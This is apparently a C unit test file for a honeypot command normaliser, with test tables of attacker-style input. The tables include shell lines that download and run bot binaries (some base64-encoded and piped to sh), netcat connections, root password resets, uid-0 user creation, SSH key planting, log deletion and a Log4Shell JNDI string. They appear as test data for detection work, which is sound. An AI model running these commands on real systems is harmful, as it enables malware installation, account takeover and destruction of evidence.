/* test_normalise.c - typed lines, requests, agents and URLs: tables of input and normal form, taken in shape from real
 * attacks, and input made to hurt (megabyte lines, open quotes, base64 within base64). */
#include "testing.h"

#include <stdio.h>
#include <stdlib.h>

#include "detect/text/normalise.h"
#include "real.h"

struct lines {
	char text[8192];
	size_t len;
	size_t calls;
};

static void
collect(void *context, struct sv command)
{
	struct lines *lines = context;

	assert_true(command.len > 0 && command.len <= NORMALISE_TEXT_MAX);
	lines->calls++;
	if (lines->len + command.len + 1 >= sizeof(lines->text))
		return;
	if (lines->len > 0)
		lines->text[lines->len++] = '|';
	memcpy(lines->text + lines->len, command.data, command.len);
	lines->len += command.len;
}

static void
normalise(struct sv line, struct lines *lines)
{
	struct arena *scratch = arena_new(8 << 20);

	*lines = (struct lines){ .len = 0 };
	normalise_line(line, scratch, collect, lines);
	assert_int_equal(arena_used(scratch), 0);
	arena_free(scratch);
	lines->text[lines->len] = '\0';
}

/* Two runs of one script, changed as attackers change them, are the same; two scripts are not. */
static void
test_what_attackers_do(void **state)
{
	/* clang-format off */
	static const struct {
		const char *what, *one, *other;
		bool same;
	} cases[] = {
		{ "address and port", "wget http://198.51.100.7:8080/x.sh; sh x.sh", "wget http://203.0.113.9:81/x.sh; sh x.sh", true },
		{ "address of the other family", "nc 198.51.100.7 4444", "nc 2001:db8::9 4445", true },
		{ "architecture", "wget http://198.51.100.7/bins/k.mips; ./k.mips", "wget http://198.51.100.7/bins/k.arm7; ./k.arm7", true },
		{ "random name", "cd /tmp; wget http://198.51.100.7/a -O BUwTrLEj; ./BUwTrLEj", "cd /tmp; wget http://198.51.100.7/a -O z5owII0b; ./z5owII0b", true },
		{ "random folder", "mkdir /tmp/xK9f2LqZ; cd /tmp/xK9f2LqZ", "mkdir /tmp/Q7bvT1wN; cd /tmp/Q7bvT1wN", true },
		{ "password", "echo \"root:pfE31FFz7D7q\"|chpasswd", "echo \"root:Zk2mQ81vXa0P\"|chpasswd", true },
		{ "spacing and quotes", "cd  /tmp ;  rm -rf  'x'", "cd /tmp; rm -rf x", true },
		{ "base64 of a script with another address", "echo Y2QgL3RtcDsgd2dldCBodHRwOi8vMTk4LjUxLjEwMC43L3guc2g7IHNoIHguc2g=|base64 -d|sh", "echo Y2QgL3RtcDsgd2dldCBodHRwOi8vMjAzLjAuMTEzLjkveC5zaDsgc2ggeC5zaA==|base64 -d|sh", true },
		{ "hex of a line with another address", "echo -e \"\\x77\\x67\\x65\\x74\\x20\\x68\\x74\\x74\\x70\\x3a\\x2f\\x2f\\x31\\x39\\x38\\x2e\\x35\\x31\\x2e\\x31\\x30\\x30\\x2e\\x37\\x2f\\x78\"", "echo -e \"\\x77\\x67\\x65\\x74\\x20\\x68\\x74\\x74\\x70\\x3a\\x2f\\x2f\\x32\\x30\\x33\\x2e\\x30\\x2e\\x31\\x31\\x33\\x2e\\x39\\x2f\\x78\"", true },
		{ "base64 of a binary", "echo f0VMRgEBAQAAAAAAAAAAAAIAAwABAAAA|base64 -d > x", "echo f0VMRgIBAQAAAAAAAAAAAAIAPgABAAAA|base64 -d > x", true },
		{ "output thrown away", "uname -a > /dev/null 2>&1", "uname -a", true },
		{ "folder of the program", "/usr/bin/wget http://198.51.100.7/a", "wget http://198.51.100.7/a", true },
		{ "number in a marker", "echo 1 > /var/tmp/.var03522123", "echo 1 > /var/tmp/.var98211405", true },
		{ "another brand", "/bin/busybox FBOT", "/bin/busybox OWARI", false },
		{ "another file", "wget http://198.51.100.7/kinsing.sh", "wget http://198.51.100.7/sora.sh", false },
		{ "another host name", "wget http://a.example.net/x", "wget http://b.example.org/x", false },
		{ "another command", "rm -rf /var/log", "cat /var/log", false },
	};
	/* clang-format on */

	(void)state;
	for (size_t i = 0; i < COUNT_OF(cases); i++) {
		struct lines one, other;

		normalise(sv_from(cases[i].one), &one);
		normalise(sv_from(cases[i].other), &other);
		if ((strcmp(one.text, other.text) == 0) != cases[i].same)
			fail_msg("%s: \"%s\" and \"%s\"", cases[i].what, one.text, other.text);
	}
}

static void
test_lines(void **state)
{
	/* clang-format off */
	static const struct {
		const char *line, *want;
	} cases[] = {
		{ "", "" },
		{ " ;; && | ", "" },
		{ "uname -a", "uname -a" },
		{ "  /usr/bin/wget   http://1.2.3.4:8080/bot.arm7  ", "wget http://<ip>:<n>/bot.<arch>" },
		{ "/bin/busybox FBOT", "busybox FBOT" },
		{ "/bin/busybox PFBGP; /bin/busybox OWARI; busybox PFBGP x", "busybox <rand>|busybox OWARI|busybox <rand> x" },
		{ "cd /tmp || cd /var/run; rm -rf *", "cd /tmp|cd /var/run|rm -rf *" },
		{ "cd /tmp && chmod +x BUwTrLEj && bash -c ./BUwTrLEj", "cd /tmp|chmod +x <rand>|bash -c ./<rand>|./<rand>" },
		{ "scp -t /tmp/awI12Q36", "scp -t /tmp/<rand>" },
		{ "scp -t /tmp/z5owII0b", "scp -t /tmp/<rand>" },
		{ "echo \"root:pfE31FFz7D7q\"|chpasswd|bash", "echo root:<pw>|chpasswd|bash" },
		{ "echo -e \"nick\\nFzGoWjiG3zxt\\nFzGoWjiG3zxt\"|passwd|bash", "echo -e <pw>|passwd|bash" },
		{ "cat x | passwd", "cat <pw>|passwd" },
		{ "echo \"steam 12345678\" > /tmp/up.txt", "echo <pw> > /tmp/up.txt" },
		{ "echo steam 12345678 > /tmp/up.txt", "echo steam <n> > /tmp/up.txt" },
		{ "echo \"a b c\" > x; echo \"cd /tmp\" >> x; echo \"/x y\" > z", "echo a b c > x|echo <pw> >> x|echo /x y > z" },
		{ "echo hello|passwords", "echo hello|passwords" },
		{ "useradd -u 0 -o x -p '$1$1OJBlhUV$E9DMK0xdoZb8W8wVOibPQ/' >/dev/null 2>&1;", "useradd -u <n> -o x -p <pw>" },
		{ "dd bs=52 count=1 if=.s || cat .s || while read i; do echo $i; done < .s",
		  "dd bs=<n> count=<n> if=.s|cat .s|read i|echo $i|< .s" },
		{ "ls -lh $(which ls)", "ls -lh|which ls" },
		{ "echo -en \"\\x6d\\x69\\x6e\\x65\\x72\\x77\\x6f\\x72\\x64\"", "echo -en minerword" },
		{ "echo -en \\x45\\x43\\x48\\x4f", "echo -en ECHO" },
		{ "/bin/busybox echo -en '\\x7f\\x45\\x4c\\x46\\x01\\x01\\x01\\x00\\x00' > retrieve", "busybox echo -en <hex> > retrieve" },
		{ "echo \"321\" > /var/tmp/.var03522123", "echo <n> > /var/tmp/.var<n>" },
		{ "sh -c 'cd /tmp; ./a 10.0.0.1'", "sh -c cd /tmp; ./a <ip>|cd /tmp|./a <ip>" },
		{ "echo d2dldCBodHRwOi8vMS4yLjMuNC94OyBzaCB4 | base64 -d | sh",
		  "echo <b64>|wget http://<ip>/x|sh x|base64 -d|sh" },
		{ "ping 2001:db8::1", "ping <ip>" },
		{ "ifconfig eth0 hw ether 00:11:22:33:44:55", "ifconfig eth<n> hw ether <mac>" },
		{ "id 123e4567-e89b-12d3-a456-426614174000", "id <uuid>" },
		{ "mv d41d8cd98f00b204e9800998ecf8427e x", "mv <hex> x" },
		{ "./dropper.x86_64 scan; ./dropper.mpsl scan", "./dropper.<arch> scan|./dropper.<arch> scan" },
		{ "python3 -c 'import os'; md5sum x; base64 -d", "python3 -c import os|md5sum x|base64 -d" },
		{ "# comment\nuname", "uname" },
		{ "a 'unclosed", "a unclosed" },
		{ "a \"b 'c\" d", "a b c d" },
		{ "a\\ b", "a b" },
		{ "cat < in >> out", "cat < in >> out" },
		{ "x 1.2.3.4.5", "x <n>.<n>.<n>.<n>.<n>" },
		{ "x 1.2.3.999", "x <n>.<n>.<n>.<n>" },
	};
	/* clang-format on */
	struct lines got;

	(void)state;
	for (size_t i = 0; i < COUNT_OF(cases); i++) {
		normalise(sv_from(cases[i].line), &got);
		if (strcmp(got.text, cases[i].want) != 0)
			fail_msg(
			    "%s\n  got  %s\n  want %s", cases[i].line, got.text, cases[i].want);
	}
}

/** A key is a key, however it is typed. */
static void
test_keys(void **state)
{
	static const char blob[] =
	    "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAAAgQC7vbqajDRETlcQWcCkE6yxzZ0123456789 me@host x";
	static const char *const quotes[] = { "\"", "'", "" };
	struct lines got;
	char line[512];

	(void)state;
	for (size_t i = 0; i < COUNT_OF(quotes); i++) {
		snprintf(line, sizeof(line), "mkdir .ssh && echo %s%s%s>>.ssh/authorized_keys",
		    quotes[i], blob, quotes[i]);
		normalise(sv_from(line), &got);
		assert_string_equal(got.text, "mkdir .ssh|echo <key> >> .ssh/authorized_keys");
	}
}

static void
test_random(void **state)
{
	static const char *const random[] = { "n8CqPBzx", "nZearjVB", "3qhjHhvf", "eyshcjdmzg",
		"XBWk2DfaVCtdANvbugnv", "linuxxzw", "cfvkjhs", "a8f3k2q9" };
	static const char *const chosen[] = { "iptables", "crontab", "SuSEfirewall2",
		"MainActivity", "HelloThinkPHP", "TomcatBypass", "phpmyadmin", "kdevtmpfsi",
		"sha256sum", "HISTFILESIZE", "dota3", "w00tw00t", "wordpress", "x", "", "2020",
		"rootsenpai", "SQLiteManager" };

	(void)state;
	for (size_t i = 0; i < COUNT_OF(random); i++)
		if (!normalise_is_random(sv_from(random[i])))
			fail_msg("%s is random", random[i]);
	for (size_t i = 0; i < COUNT_OF(chosen); i++)
		if (normalise_is_random(sv_from(chosen[i])))
			fail_msg("%s was chosen", chosen[i]);
}

static void
test_requests(void **state)
{
	/* clang-format off */
	static const struct {
		const char *request, *want;
	} cases[] = {
		{ "GET /", "GET /" },
		{ "GET / HTTP/1.1", "GET /" },
		{ "GET /a/123/b?id=7&page=x", "GET /a/<n>/b?id=&page=" },
		{ "GET http://5.6.7.8/echo.php", "GET http://<host>/echo.php" },
		{ "GET /phpMyAdmin-2.5.5-rc1/", "GET /phpMyAdmin-<n>.<n>.<n>-rc<n>/" },
		{ "POST /Adminad68aca7/Login.php", "POST /Adminad<n>aca<n>/Login.php" },
		{ "GET /%2e%2e/etc", "GET /../etc" },
		{ "GET /x?a%20b=1&c", "GET /x?a b=&c" },
		{ "\x16\x03\x01 z", "<junk>" },
		{ "", "<junk>" },
		{ "GET", "GET " },
		{ "GET /${${env:NaN:-j}ndi${env:NaN:-:}ldap://1.2.3.4:389/x}", "GET /${jndi:ldap://<ip>:<n>/x}" },
		{ "GET /\x01\xff", "GET /.." },
	};
	/* clang-format on */
	struct arena *scratch = arena_new(1 << 20);

	(void)state;
	for (size_t i = 0; i < COUNT_OF(cases); i++) {
		struct sv got = normalise_request(sv_from(cases[i].request), scratch);

		if (!sv_eq(got, sv_from(cases[i].want)))
			fail_msg("%s\n  got  %.*s\n  want %s", cases[i].request, SV_ARG(got),
			    cases[i].want);
	}
	arena_free(scratch);
}

static void
test_agents(void **state)
{
	struct arena *scratch = arena_new(1 << 20);

	(void)state;
	assert_sv_equal(normalise_user_agent(SV("Mozilla/5.0 zgrab/0.x"), scratch),
	    "Mozilla/<n>.<n> zgrab/<n>.x");
	assert_sv_equal(normalise_user_agent(SV("curl/7.88.1"), scratch), "curl/<n>.<n>.<n>");
	assert_sv_equal(normalise_user_agent(SV(""), scratch), "");
	arena_free(scratch);
}

static void
test_urls(void **state)
{
	/* clang-format off */
	static const struct {
		const char *url, *want, *host;
	} cases[] = {
		{ "http://1.2.3.4/x", "1.2.3.4/x", "1.2.3.4" },
		{ "http://1.2.3.4:80/x", "1.2.3.4/x", "1.2.3.4" },
		{ "https://EXAMPLE.org:443/A?b=C#d", "example.org/A?b=C", "example.org" },
		{ "https://example.org:80/", "example.org:80/", "example.org:80" },
		{ "ftp://user:pw@1.2.3.4/f.arm7", "1.2.3.4/f.<arch>", "1.2.3.4" },
		{ "http://1.2.3.4/bot.x86_64", "1.2.3.4/bot.<arch>", "1.2.3.4" },
		{ "http://1.2.3.4/mips/run.sh", "1.2.3.4/mips/run.sh", "1.2.3.4" },
		{ "http://1.2.3.4/mips", "1.2.3.4/<arch>", "1.2.3.4" },
		{ "1.2.3.4", "1.2.3.4/", "1.2.3.4" },
		{ "tftp://1.2.3.4:69/a", "1.2.3.4/a", "1.2.3.4" },
		{ "http://[2001:db8::1]:8080/a", "[2001:db8::1]:8080/a", "[2001:db8::1]:8080" },
		{ "http://x/y", NULL, NULL },
		{ "http://", NULL, NULL },
		{ "", NULL, NULL },
		{ "http://a.b:99999/", NULL, NULL },
		{ "http://a..b:0/", NULL, NULL },
		{ "http://bad host.com/", NULL, NULL },
		{ "/etc/passwd", NULL, NULL },
	};
	/* clang-format on */
	struct arena *scratch = arena_new(1 << 20);

	(void)state;
	for (size_t i = 0; i < COUNT_OF(cases); i++) {
		struct sv host, got = normalise_url(sv_from(cases[i].url), scratch, &host);

		if (!sv_eq(got, sv_from(cases[i].want)) ||
		    (got.data == NULL) != (cases[i].want == NULL) ||
		    !sv_eq(host, sv_from(cases[i].host)))
			fail_msg(
			    "%s\n  got  %.*s, host %.*s", cases[i].url, SV_ARG(got), SV_ARG(host));
	}
	arena_free(scratch);
}

/** Input made to hurt: every line is a megabyte, and the work must stay within one megabyte-sized arena. */
static void
test_hostile(void **state)
{
	static const char *const fillers[] = { "\"", "'", "\\", ";", "a;", "a b ", "$(", "`", ">",
		"> ", "(", "&", "|", "\\x41", "1.2.3.4 ", "sh -c ", "A", "/", "..", "${", "=",
		"\xff", "-c '" };
	size_t size = 1 << 20;
	char *line = malloc(size);
	struct lines got;

	(void)state;
	for (size_t k = 0; k < COUNT_OF(fillers); k++) {
		size_t n = strlen(fillers[k]);

		for (size_t i = 0; i < size; i++)
			line[i] = fillers[k][i % n];
		normalise((struct sv){ line, size }, &got);
		assert_true(got.calls <= 512);
	}
	memset(line, 0, size);
	normalise((struct sv){ line, size }, &got);
	assert_int_equal(got.calls, 0);
	free(line);
}

/** Base64 within base64 is opened once: the inner layer is masked. */
static void
test_nested_base64(void **state)
{
	struct lines got;

	(void)state;
	/* base64 of: echo d2dldCBodHRwOi8vMS4yLjMuNC94OyBzaCB4 | base64 -d */
	normalise(
	    SV("echo ZWNobyBkMmRsZENCb2RIUndPaTh2TVM0eUxqTXVOQzk0T3lCemFDQjQgfCBiYXNlNjQgLWQ="),
	    &got);
	assert_string_equal(got.text, "echo <b64>|echo <b64>|base64 -d");
}

/** A scratch arena that is too small gives fewer commands, never a crash. */
static void
test_no_memory(void **state)
{
	struct lines got = { .len = 0 };

	(void)state;
	for (size_t limit = 0; limit < 4096; limit += 64) {
		struct arena *scratch = arena_new(limit + 1);

		normalise_line(
		    SV("cd /tmp; echo '\\x41\\x42' d2dldCBodHRwOi8vMS4yLjMuNC94OyBzaCB4"), scratch,
		    collect, &got);
		arena_free(scratch);
	}
	assert_true(got.calls > 0);
}

/** The Raspberry Pi worm of three sources, with another file name and hash on each: one script. */
static void
test_real_worm(void **state)
{
	struct session_table table;
	struct arena *scratch;
	size_t sources = 0;

	(void)state;
	if (!real_load("dshield-2023/botnet-germany-japan", &table))
		return;
	scratch = arena_new(1 << 20);
	for (uint32_t row = 0; row < table.n; row++) {
		struct lines got = { .len = 0 };

		for (uint32_t i = table.item_start[row]; i < table.item_start[row + 1]; i++)
			if (table.items[i].kind == ITEM_COMMAND && table.items[i].flags == 0)
				normalise_line(session_string(&table, table.items[i].a), scratch,
				    collect, &got);
		got.text[got.len] = '\0';
		if (got.len == 0 || strncmp(got.text, "cd /tmp", 7) != 0)
			continue;
		assert_string_equal(got.text, "cd /tmp|chmod +x <rand>|bash -c ./<rand>|./<rand>");
		sources++;
	}
	assert_int_equal(sources, 3);
	arena_free(scratch);
	session_table_free(&table);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_what_attackers_do),
		cmocka_unit_test(test_lines),
		cmocka_unit_test(test_keys),
		cmocka_unit_test(test_random),
		cmocka_unit_test(test_requests),
		cmocka_unit_test(test_agents),
		cmocka_unit_test(test_urls),
		cmocka_unit_test(test_hostile),
		cmocka_unit_test(test_nested_base64),
		cmocka_unit_test(test_no_memory),
		cmocka_unit_test(test_real_worm),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
